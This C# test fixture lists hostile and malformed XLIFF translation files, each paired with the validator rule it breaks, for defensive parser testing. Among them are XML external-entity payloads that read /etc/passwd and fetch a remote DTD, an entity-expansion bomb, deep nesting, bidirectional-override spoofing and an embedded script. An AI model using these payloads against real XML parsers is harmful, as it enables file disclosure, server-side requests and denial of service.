using System.Text;

namespace Entraide.Tests.Core.Text.Xliff;

/// <summary>Files that nobody should take, each with the rule that it breaks. None is from the suite of the standard.</summary>
internal static class HostileFiles
{
    private const string Head = """<?xml version="1.0" encoding="UTF-8"?>""";

    public static IReadOnlyList<(string Name, string Rule, byte[] Bytes)> All { get; } =
    [
        .. new (string Name, string Rule, string Text)[]
        {
            ("an empty file", "file-empty", ""),
            ("blanks", "file-empty", " \r\n\t "),
            ("JSON", "file-json", """{"xliff": "2.1"}"""),
            ("a list in JSON", "file-json", "[1]"),
            ("a web page", "file-html", "<!DOCTYPE html><html><body>Sign in</body></html>"),
            ("a web page without document type", "file-html", "<html><head/></html>"),
            ("a text", "file-kind", "Dear translator, the file is attached."),
            ("a catalogue of gettext", "file-kind", "msgid \"\"\nmsgstr \"\"\n"),
            ("another encoding said", "file-encoding", File().Replace("UTF-8", "ISO-8859-1")),
            ("entities that grow", "xml-dtd", $"{Head}<!DOCTYPE xliff [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\">]>{Body("<source>&b;</source>")}"),
            ("an entity from a file", "xml-dtd", $"{Head}<!DOCTYPE xliff [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>{Body("<source>&a;</source>")}"),
            ("a parameter entity from the network", "xml-dtd", $"<!-- --><!DOCTYPE xliff [<!ENTITY % a SYSTEM \"http://192.0.2.1/x\"> %a;]>{Body("<source/>")}"),
            ("a document type after a comment", "xml-dtd", $"{Head}\n<!-- a --><?p?>\n<!DOCTYPE xliff SYSTEM \"x.dtd\">{Body("<source/>")}"),
            ("an entity that nobody defined", "xml-malformed", Head + Body("<source>&nbsp;</source>")),
            ("a document type late", "xml-malformed", File() + "<!DOCTYPE x>"),
            ("a prefix that nobody declared", "xml-malformed", File("<source>a</source>").Replace("<unit id", "<unit x:y=\"1\" id")),
            ("an element not closed", "xml-malformed", File()[..^9]),
            ("a control character by number", "xml-malformed", File("<source>&#1;</source>")),
            ("the same attribute twice", "xml-malformed", File().Replace("<unit id=\"u1\"", "<unit id=\"u1\" id=\"u2\"")),
            ("elements in elements", "xml-depth", Head + string.Concat(Enumerable.Repeat("<a>", 50_000)) + string.Concat(Enumerable.Repeat("</a>", 50_000))),
            ("codes in codes", "xml-depth", File($"<source>{string.Concat(Enumerable.Range(1, 120).Select(i => $"<pc id=\"{i}\">"))}{string.Concat(Enumerable.Repeat("</pc>", 120))}</source>")),
            ("another format of XML", "xliff-root", Head + "<tmx version=\"1.4\"/>"),
            ("XLIFF 1.2", "xliff-root", Head + "<xliff xmlns=\"urn:oasis:names:tc:xliff:document:1.2\" version=\"1.2\"/>"),
            ("no namespace", "xliff-root", File().Replace("xmlns=\"urn:oasis:names:tc:xliff:document:2.0\" ", "")),
            ("a version to come", "xliff-version", File().Replace("version=\"2.1\"", "version=\"3.0\"")),
            ("one huge unit", "unit-size", File($"<source>{new string('a', 1_000_001)}</source>")),
            ("another source language", "source-language-asked", File().Replace("srcLang=\"en\"", "srcLang=\"de\"")),
            ("another target language", "target-language-asked", File().Replace("trgLang=\"fr\"", "trgLang=\"es\"")),
            ("no target language", "target-language-asked", File().Replace(" trgLang=\"fr\"", "")),
            ("an override of direction", "target-bidi", Target("pay \u202E001\u202C")),
            ("an isolate", "target-bidi", Target("\u2067a\u2069")),
            ("a mark of direction", "target-bidi", Target("a\u200Fb")),
            ("a zero-width space", "target-invisible", Target("a\u200Bb")),
            ("a joiner among Latin letters", "target-invisible", Target("a\u200Db")),
            ("a byte order mark within", "target-invisible", Target("a\uFEFFb")),
            ("a control of the second set", "target-control", Target("a\u0085b")),
            ("a unit twice", "id-unit", File().Replace("</file>", "<unit id=\"u1\"><segment><source>b</source></segment></unit></file>")),
            ("a code of the target with a segment's id", "id-target", File("<source>a</source><target><ph id=\"s1\"/></target>").Replace("<segment", "<segment id=\"s1\"")),
            ("a code of the target that is another", "id-target", File("<source><ph id=\"1\"/></source><target><pc id=\"1\">a</pc></target>")),
            ("a code of the target twice", "id-target", File("<source><ph id=\"1\"/></source><target><ph id=\"1\"/><ph id=\"1\"/></target>")),
            ("text between units", "text-place", File().Replace("</unit>", "</unit>stray")),
            ("a state without target", "state-target", File().Replace("<segment", "<segment state=\"final\"")),
            ("an order beyond the end", "order-range", File("<source>a</source><target order=\"9\">b</target>")),
            ("an order that leaves a hole", "order-complete", File("<source>a</source><target order=\"2\">b</target></segment><segment><source>c</source>")),
            ("data for one half of a pair", "data-ref-pair", File("<source><pc id=\"1\" dataRefStart=\"d\">a</pc></source>").Replace("<segment", "<originalData><data id=\"d\">x</data></originalData><segment")),
            ("an equivalent for one half of a pair", "equiv-pair", File("<source><pc id=\"1\" equivStart=\"x\">a</pc></source>")),
            ("a marked match that refers", "match-marker-ref", File("<source><mrk id=\"m\" type=\"mtc:match\" ref=\"#u=u1\">a</mrk></source>")),
            ("a reference to nothing", "fragment-target", File("<source><mrk id=\"m\" type=\"x:y\" ref=\"#f=f1/u=u9\">a</mrk></source>")),
            ("a term elsewhere", "term-ref", Unit("<gls:glossary><gls:glossEntry ref=\"#u=u1\"><gls:term>a</gls:term><gls:definition>b</gls:definition></gls:glossEntry></gls:glossary>")),
            ("a resource of no type", "resource-type", Unit("<res:resourceData><res:resourceItem><res:source href=\"a\"/></res:resourceItem></res:resourceData>")),
            ("a current version that is none", "change-version", Unit("<ctr:changeTrack><ctr:revisions appliesTo=\"source\" currentVersion=\"2\"><ctr:revision version=\"1\"><ctr:item property=\"content\">a</ctr:item></ctr:revision></ctr:revisions></ctr:changeTrack>")),
            ("a count of an absence", "check-occurs", Unit("<val:validation><val:rule isNotPresent=\"a\" occurs=\"2\"/></val:validation>")),
            ("a rule disabled where it is set", "check-disabled", File().Replace("<unit", "<val:validation><val:rule isPresent=\"a\" disabled=\"yes\"/></val:validation><unit")),
            ("ITS without version", "its-version", File("<source><mrk id=\"m\" its:taClassRef=\"http://example.org/a\">a</mrk></source>").Replace(" its:version=\"2.0\"", "")),
            ("ITS on a comment", "its-type", File("<source><mrk id=\"m\" type=\"comment\" value=\"a\" its:taClassRef=\"http://example.org/a\">a</mrk></source>")),
            ("half an identity of ITS", "its-together", File("<source><mrk id=\"m\" its:taSource=\"a\">a</mrk></source>")),
            ("an annotator of nothing", "its-annotators", File().Replace("<unit", "<unit its:annotatorsRef=\"poetry|tool\"")),
            ("a record of nothing", "its-record", Unit("<its:provenanceRecords xml:id=\"p\"><its:provenanceRecord/></its:provenanceRecords>")),
            ("a record that is elsewhere", "its-ref", File("<source><mrk id=\"m\" its:provenanceRecordsRef=\"#its=p\">a</mrk></source>")),
            ("an element of the standard that is none", "element-unknown", File("<source><b>a</b></source>")),
            ("a script in a source", "element-foreign", File("<source><script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script></source>")),
            ("a million codes copied", "copy-of", File("<source><ph id=\"1\" copyOf=\"1000000\"/></source>")),
        }.Select(one => (one.Name, one.Rule, Encoding.UTF8.GetBytes(one.Text))),
        ("a zip archive", "file-zip", [0x50, 0x4B, 3, 4, 20, 0]),
        ("an empty zip archive", "file-zip", [0x50, 0x4B, 5, 6, .. new byte[18]]),
        ("UTF-16", "file-encoding", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(File())]),
        ("UTF-16 without mark", "file-encoding", Encoding.Unicode.GetBytes(File())),
        ("Latin 1", "file-encoding", Encoding.Latin1.GetBytes(File("<source>é</source>"))),
        ("letters written too long", "file-encoding", [.. Encoding.UTF8.GetBytes(Head), 0xC0, 0xBC]),
        ("half a surrogate pair", "file-encoding", [.. Encoding.UTF8.GetBytes(Head), 0xED, 0xA0, 0x80]),
        ("ten million bytes and one", "file-size", [.. Encoding.UTF8.GetBytes(File()), .. Enumerable.Repeat((byte)' ', 10_000_000)]),
    ];

    /// <summary>A file with one unit and one segment.</summary>
    public static string File(string content = "<source>a</source>") => Head + Body(content);

    private static string Target(string text) => File($"<source>a</source><target>{text}</target>");

    private static string Unit(string modules) => File().Replace("<segment", modules + "<segment");

    private static string Body(string content) => "<xliff xmlns=\"urn:oasis:names:tc:xliff:document:2.0\" xmlns:gls=\"urn:oasis:names:tc:xliff:glossary:2.0\" xmlns:res=\"urn:oasis:names:tc:xliff:resourcedata:2.0\" "
        + "xmlns:ctr=\"urn:oasis:names:tc:xliff:changetracking:2.0\" xmlns:val=\"urn:oasis:names:tc:xliff:validation:2.0\" xmlns:its=\"http://www.w3.org/2005/11/its\" its:version=\"2.0\" "
        + $"version=\"2.1\" srcLang=\"en\" trgLang=\"fr\"><file id=\"f1\"><unit id=\"u1\"><segment>{content}</segment></unit></file></xliff>";
}
